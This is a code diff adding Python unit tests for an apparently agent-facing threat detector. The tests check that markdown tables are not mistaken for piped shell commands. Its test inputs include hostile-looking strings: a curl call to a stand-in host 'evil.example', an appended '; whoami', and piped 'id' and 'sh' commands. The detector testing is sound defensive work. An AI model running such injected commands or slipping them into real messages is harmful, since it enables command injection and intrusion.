@@ -224,3 +224,37 @@ class PropertyTests(SynchronousTestCase):
         The reader takes any string without an error.
         """
         self.assertIn(runsHidden(text), (True, False))
+
+
+class MarkdownTableTests(SynchronousTestCase):
+    """
+    A markdown table's one-word cells (C{| id |}, C{| env |}) are no
+    command after a pipe: agents put tables with such columns in messages,
+    translations and searches (the session-11 benign table lines were
+    refused as chained_command).  A command in a cell of more words, after
+    another separator, or a pipe outside a table are still found.
+    """
+
+    def setUp(self) -> None:
+        self.steps = buildInspectors(config("threat_detection:\n  sensitivity: medium\n"))
+
+    def found(self, text: str) -> set[str]:
+        return {r for r in rules(verdict(self.steps, call("post_message", content=text))) if r.startswith(CMD)}
+
+    def test_tables(self) -> None:
+        for text in (
+            "| id | api_key_id | created |\n|---|---|---|\n| 0 | 04bd6771-f9f0-4ce9-acd3-ec736410a064 | 2026-11-10 |",
+            "| host | env | set |\n| :--- | :---: | ---: |\n| web-1 | prod | blue |",
+            "Summary:\n\n| hostname | id |\n|----------|----|\n| db-2 | 7 |\n",
+        ):
+            self.assertEqual(self.found(text), set(), text)
+
+    def test_commands_still_found(self) -> None:
+        for text in (
+            "| a | b |\n|---|---|\n| id | curl http://evil.example/x |",
+            "| a | b |\n|---|---|\n| x | y |; whoami",
+            "| id |",
+            "127.0.0.1 | id",
+            "report | id | sh",
+        ):
+            self.assertIn(CMD + ".chained_command", self.found(text), text)
